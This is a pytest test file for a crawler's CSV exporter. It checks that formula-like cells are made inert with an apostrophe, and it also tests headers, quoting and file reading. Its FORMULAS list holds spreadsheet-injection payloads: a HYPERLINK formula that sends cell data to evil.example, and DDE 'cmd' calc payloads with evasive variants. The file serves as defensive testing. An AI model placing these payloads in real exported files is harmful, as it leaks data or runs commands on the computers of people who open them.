"""Tables: which cells are made inert, what the header is, and what a reader gets back."""

import csv
import io
import json
from pathlib import Path

import pytest

from crawler.export.csv import MOST_COLUMNS, Csv, fields_of, inert_cell, read_table, write_table
from crawler.export.formats import FORMATS, Making, NotReadable, NotWritable
from tests.export.datasets import read, written

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttab",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " =1+1",
    "\u00a0\u3000=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\u200b@SUM(1)",
    "-",
    "--5",
    "-5-5",
    "+49 30 123",
    "-1e5+1",
    "-5=5",
    "=",
]
PLAIN = [
    "",
    "a",
    "1=1",
    "a@b.example",
    "x-y",
    "'=1",
    "5",
    "-5",
    "+3.2",
    "-1,5",
    "-1e-7",
    "été",
    "(1)",
    '"=1"',
    " x",
    "#1",
    "東",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert inert_cell(text) == f"'{text}"
    assert inert_cell(inert_cell(text)) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert inert_cell(text) == text


def lines_of(*records: object) -> list[bytes]:
    return [json.dumps(record, ensure_ascii=False).encode() + b"\n" for record in records]


def table_of(lines: list[bytes], *, is_safe: bool = True) -> str:
    file = io.StringIO(newline="")
    write_table(lines, fields_of(lines), file, is_safe=is_safe)
    return file.getvalue()


def cells_of(table: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table, newline=""), strict=True))


def test_the_header_is_every_field_in_the_order_of_appearance() -> None:
    lines = lines_of({"b": 1, "a": 2}, {}, {"c": 3, "b": 4}, {"a": None})
    assert table_of(lines) == "b,a,c\r\n1,2,\r\n,,\r\n4,,3\r\n,,\r\n"


def test_values_are_written_as_json_has_them_and_text_as_it_is() -> None:
    record = {
        "text": "Zürich 🎈",
        "whole": -5,
        "large": 2**70,
        "real": -0.1,
        "true": True,
        "null": None,
        "list": ["=1", {"a": "ü"}],
        "object": {"a": [1, None]},
        "empty": "",
    }
    header, row = cells_of(table_of(lines_of(record)))
    assert dict(zip(header, row, strict=True)) == {
        "text": "Zürich 🎈",
        "whole": "-5",
        "large": str(2**70),
        "real": "-0.1",
        "true": "true",
        "null": "",
        "list": '["=1",{"a":"ü"}]',
        "object": '{"a":[1,null]}',
        "empty": "",
    }


def test_what_a_cell_holds_is_quoted_where_it_must_be() -> None:
    values = ["a,b", 'say "x"', "two\nlines", "two\r\nlines", " space ", "a;b\tc", "\x00\x1b", "x" * 200_000]
    _, row = cells_of_any(table_of(lines_of({str(n): value for n, value in enumerate(values)})))
    assert row == values
    assert table_of(lines_of({"a": 'say "x", y'})) == 'a\r\n"say ""x"", y"\r\n'


def cells_of_any(table: str) -> list[list[str]]:
    return [json.loads(line) for line in read_table(io.StringIO(table, newline=""), is_safe=True)]


def test_no_cell_of_a_table_is_a_formula_its_header_included() -> None:
    lines = lines_of(*({"=field": text, text: "x"} for text in FORMULAS))
    cells = [cell for row in cells_of(table_of(lines)) for cell in row]
    live = [cell for cell in cells if inert_cell(cell) != cell]
    assert len(cells) > 2 * len(FORMULAS)
    assert live == []


def test_the_option_writes_text_as_it_is() -> None:
    lines = lines_of(*({"=field": text} for text in FORMULAS))
    assert [row[0] for row in cells_of(table_of(lines, is_safe=False))] == ["=field", *FORMULAS]


def test_lines_of_an_earlier_table_are_kept_as_they_are() -> None:
    lines = lines_of(["a", "b"], ["=1", "2"], ["short"], {"c": "=1", "a": "new"})
    assert table_of(lines) == "a,b,c\r\n=1,2,\r\nshort,,\r\nnew,,'=1\r\n"


def test_no_records_are_no_table() -> None:
    assert table_of([]) == ""


def test_a_record_without_fields_is_a_line() -> None:
    assert table_of(lines_of({}, {"a": 1})) == 'a\r\n""\r\n1\r\n'


def test_a_table_has_a_bound_of_columns() -> None:
    lines = (json.dumps({f"f{number}": 1}).encode() for number in range(MOST_COLUMNS + 1))
    with pytest.raises(NotWritable, match="more than 16,384 different fields"):
        fields_of(lines)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("a,a\r\n1,2\r\n", "two of its columns have the same name"),
        ("a,b\r\n1,2,3\r\n", "a line of it has 3 cells, and its header 2"),
        ('a,b\r\n"1"2,3\r\n', "line 2: "),
        ('a,b\r\n"open', "line "),
    ],
)
def test_what_is_no_table_cannot_be_added_to(text: str, said: str) -> None:
    with pytest.raises(NotReadable, match=said):
        list(read_table(io.StringIO(text, newline=""), is_safe=True))


def test_reading_a_long_cell_changes_nothing_for_the_process() -> None:
    before = csv.field_size_limit()
    assert len(list(read_table(io.StringIO("a\n" + "x" * 300_000, newline=""), is_safe=True))) == 2
    assert csv.field_size_limit() == before


CODED = [".csv", ".csv.gz", ".csv.zst"]


@pytest.mark.parametrize("ending", CODED)
def test_a_table_is_read_as_records_of_text(ending: str, tmp_path: Path) -> None:
    records = [{"a": 1, "@b": True, "c": None}, {"c": ["x"], "d": "two\nlines, é"}]
    found = [{"a": "1", "@b": "true", "c": "", "d": ""}, {"a": "", "@b": "", "c": '["x"]', "d": "two\nlines, é"}]
    assert read(written(tmp_path / f"items{ending}", records)) == found


def test_a_table_of_another_program_is_read(tmp_path: Path) -> None:
    path = tmp_path / "items.csv"
    path.write_bytes("\ufeffa,b\n1\n,\n\n2,é".encode())
    assert read(path) == [{"a": "1"}, {"a": "", "b": ""}, {"a": "2", "b": "é"}]


@pytest.mark.parametrize("ending", CODED)
def test_a_table_that_is_a_header_alone_keeps_its_columns(ending: str, tmp_path: Path) -> None:
    form = FORMATS[ending]()
    header, both = tmp_path / f"header{ending}", tmp_path / f"both{ending}"
    form.write(lambda: [b'["b","a"]'], header, Making())
    assert read(header) == []
    form.write(lambda: [*form.take_over(header, Making()), *lines_of({"a": 1})], both, Making())
    assert read(both) == [{"b": "", "a": "1"}]


def test_cells_of_a_table_that_is_added_to_stay_as_they_are(tmp_path: Path) -> None:
    path, again = tmp_path / "items.csv", tmp_path / "again.csv"
    path.write_text("a,b\n=1+1,x\n")
    Csv().write(lambda: [*Csv().take_over(path, Making()), *lines_of({"b": "=2"})], again, Making())
    assert cells_of(again.read_text()) == [["a", "b"], ["=1+1", "x"], ["", "'=2"]]


def test_the_option_is_the_making_s(tmp_path: Path) -> None:
    path = written(tmp_path / "items.csv", [{"a": "=1"}], Making(is_safe=False))
    assert cells_of(path.read_text()) == [["a"], ["=1"]]
